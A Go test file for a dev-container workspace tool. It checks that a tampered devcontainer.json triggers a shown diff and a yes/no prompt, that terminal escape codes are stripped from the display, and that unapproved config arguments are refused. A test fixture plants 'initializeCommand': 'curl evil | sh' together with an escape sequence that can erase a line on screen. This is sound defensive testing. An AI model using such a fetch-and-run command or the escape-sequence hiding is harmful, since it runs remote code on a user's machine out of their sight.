package main

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/coltec/coltec/internal/sample"
)

// untrustedWorkspace is a workspace that the user of a new home made, and that somebody
// changed; tools note in ran what the dev container CLI was given to run.
func untrustedWorkspace(t *testing.T) (coltec, dir, ran string) {
	t.Helper()
	home := t.TempDir()
	bin, tools := filepath.Join(home, "bin"), filepath.Join(home, "tools")
	ran = filepath.Join(home, "ran")
	for _, d := range []string{bin, tools} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	coltec = executable(t, bin)
	dir = filepath.Join(home, "a w")
	for name, text := range map[string]string{
		"docker": "#!/bin/sh\n",
		// What an agent writes while the CLI is about to read.
		"devcontainer": "#!/bin/sh\n[ \"$1\" = up ] || exit\necho '{\"initializeCommand\": \"late\"}' >\"$3/.devcontainer/devcontainer.json\"\n" +
			"while [ $# -gt 0 ]; do [ \"$1\" = --override-config ] && cp \"$2\" " + ran + "; shift; done\nexit 1\n",
	} {
		if err := os.WriteFile(filepath.Join(tools, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", home)
	t.Setenv("XDG_STATE_HOME", "")
	t.Setenv("PATH", tools+":/usr/bin:/bin")
	if out, err := exec.Command(coltec, "new", dir, "--data", "org=acme", "--data", "project=widget", "--data", "env=dev", "--data", "persistence_enabled=false").CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	return coltec, dir, ran
}

// What a person sees of a workspace that asks more than it did: the difference in words,
// and one question. No, Enter and Ctrl-C run nothing; after yes nothing is asked again,
// and what runs is what was shown.
func TestUpAsksAPerson(t *testing.T) {
	sample.Long(t)
	coltec, dir, ran := untrustedWorkspace(t)
	path := filepath.Join(dir, configName)
	was, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	evil := bytes.Replace(was, []byte("{"), []byte("{\n\"initializeCommand\": \"curl evil | sh\\u001b[2K\","), 1)
	for _, c := range []struct {
		name, answer string
		code         int
	}{{"no", "n\r", 9}, {"enter", "\r", 9}, {"no word", "yess\r", 9}, {"interrupt", "\x03", 130}, {"yes", "y\r", 1}} {
		t.Run(c.name, func(t *testing.T) {
			if err := os.WriteFile(path, evil, 0o644); err != nil {
				t.Fatal(err)
			}
			x := onTerminal(t, coltec, "up", dir)
			x.answers("asks something else of this host than you agreed to on ", "Agree, and go on? [y/N] ", c.answer)
			if code := x.ends(); code != c.code {
				t.Errorf("exit %d, and not %d", code, c.code)
			}
			said := x.said.String()
			if !strings.Contains(said, "  + initializeCommand: curl evil | sh") || strings.Contains(said, "\x1b[2K") {
				t.Errorf("it shows:\n%q", said)
			}
			got, err := os.ReadFile(ran)
			if c.name == "yes" {
				if diff := cmp.Diff(asAgreed(t, evil), asAgreed(t, got)); diff != "" {
					t.Errorf("what runs is %s, %v: %s", got, err, diff)
				}
			} else if err == nil {
				t.Errorf("it runs %s", got)
			}
		})
	}
	// The agreement lasts; and one for the first text is no more one.
	for _, c := range []struct {
		text []byte
		code int
	}{{evil, 1}, {was, 9}} {
		if err := os.WriteFile(path, c.text, 0o644); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(coltec, "up", dir)
		out, _ := cmd.CombinedOutput()
		if code := cmd.ProcessState.ExitCode(); code != c.code || c.code == 1 && bytes.Contains(out, []byte("gree")) {
			t.Errorf("exit %d, and not %d\n%s", code, c.code, out)
		}
	}
}

// A difference is a patch where a program takes it, and text to a person: what the workspace
// says works no terminal.
func TestDiffOnATerminal(t *testing.T) {
	sample.Long(t)
	coltec, dir, _ := untrustedWorkspace(t)
	path := filepath.Join(dir, configName)
	was, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	label := []byte(`"--label=coltec.project=widget",`)
	if err := os.WriteFile(path, bytes.Replace(was, label, append(label, " // \x1b[2K"...), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	args := []string{"update", "--diff", dir, "--data", "run_args=--cap-add=SYS_PTRACE"}
	out, err := exec.Command(coltec, args...).Output()
	if err != nil || !bytes.Contains(out, append(label, " // \x1b[2K"...)) {
		t.Errorf("a program gets %q, %v", out, err)
	}
	x := onTerminal(t, coltec, args...)
	if code := x.ends(); code != 0 || !strings.Contains(x.said.String(), string(label)) || strings.Contains(x.said.String(), "\x1b") {
		t.Errorf("exit %d, %q", code, x.said.String())
	}
}

// asAgreed is a devcontainer.json without what up says beside it: of what the container is made.
func asAgreed(t *testing.T, text []byte) (v map[string]any) {
	t.Helper()
	if err := json.Unmarshal(text, &v); err != nil {
		t.Fatalf("%v: %s", err, text)
	}
	if c, ok := v["customizations"].(map[string]any); ok {
		delete(c, "coltec")
	}
	return v
}

// What stands after -- cannot bring in a devcontainer.json that nobody agreed to.
func TestConfigOfTheArguments(t *testing.T) {
	dir := t.TempDir()
	for _, c := range []struct {
		args []string
		at   string // "": refused
		rest string
	}{
		{nil, configName, ""},
		{[]string{"--remove-existing-container", "--id-label", "a=b"}, configName, "--remove-existing-container --id-label a=b"},
		{[]string{"--config", "/w/.devcontainer/py/devcontainer.json", "--x"}, ".devcontainer/py/devcontainer.json", "--x"},
		{[]string{"--x", "--config=/w/.devcontainer.json"}, ".devcontainer.json", "--x"},
		{[]string{"--config", "/elsewhere/devcontainer.json"}, "", ""},
		{[]string{"--config=/w/../elsewhere/devcontainer.json"}, "", ""},
		{[]string{"--config"}, "", ""},
		{[]string{"--override-config", "/w/x.json"}, "", ""},
		{[]string{"--override-config=/w/x.json"}, "", ""},
		{[]string{"--workspace-folder", "/elsewhere"}, "", ""},
	} {
		args := slices.Clone(c.args)
		for i := range args {
			args[i] = strings.Replace(args[i], "/w/", dir+"/", 1)
		}
		at, rest, err := configArg(dir, args)
		if at != c.at || strings.Join(rest, " ") != c.rest || (err != nil) != (c.at == "") {
			t.Errorf("%q: %q, %q, %v", c.args, at, rest, err)
		}
	}
}
